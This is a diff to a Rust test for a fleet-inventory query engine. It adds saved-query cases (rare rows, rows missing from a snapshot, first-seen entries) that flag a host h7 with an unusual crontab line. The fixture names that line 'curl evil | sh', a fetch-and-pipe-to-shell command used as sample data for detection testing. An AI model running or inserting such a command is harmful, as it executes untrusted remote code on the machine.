@@ -399,7 +399,9 @@ async fn answered_fleet() -> Fixture {
 
 #[tokio::test]
 async fn saved_queries_find_the_odd_host() {
-    let engine = answered_fleet().await.engine_over(&Catalog::builtin().unwrap());
+    let fleet = answered_fleet().await;
+    let snapshot = fleet.manifests[0].snapshot.to_string();
+    let engine = fleet.engine_over(&Catalog::builtin().unwrap());
     let queries = Queries::builtin().unwrap();
     let hex: String = id("curl evil | sh").iter().map(|byte| format!("{byte:02x}")).collect();
     for (name, params, expected) in [
@@ -409,6 +411,13 @@ async fn saved_queries_find_the_odd_host() {
         ("rare_cron", vec![("fleet", "db")], vec![]),
         ("rare_cron", vec![("max_hosts", "0")], vec![]),
         ("row_on_hosts", vec![("strict_id", hex.as_str())], vec!["h7", "2026-01-05"]),
+        ("rows_on_few_hosts", vec![], vec![]),
+        ("rows_on_few_hosts", vec![("max_percent", "4")], vec!["h7", hex.as_str(), "| 1              | 29  "]),
+        ("rows_on_few_hosts", vec![("max_percent", "4"), ("table", "users")], vec![]),
+        ("not_in_snapshot", vec![("snapshot", "another")], vec!["crontab", hex.as_str(), "| 29  "]),
+        ("not_in_snapshot", vec![("snapshot", snapshot.as_str())], vec![]),
+        ("first_seen", vec![], vec!["crontab", hex.as_str(), snapshot.as_str()]),
+        ("first_seen", vec![("fleet", "db")], vec![]),
         ("coverage_problems", vec![], vec!["h29", "timeout", "crontab"]),
         ("hosts_overview", vec![], vec!["h0", "h29"]),
         ("snapshots_of_fleet", vec![], vec!["web"]),
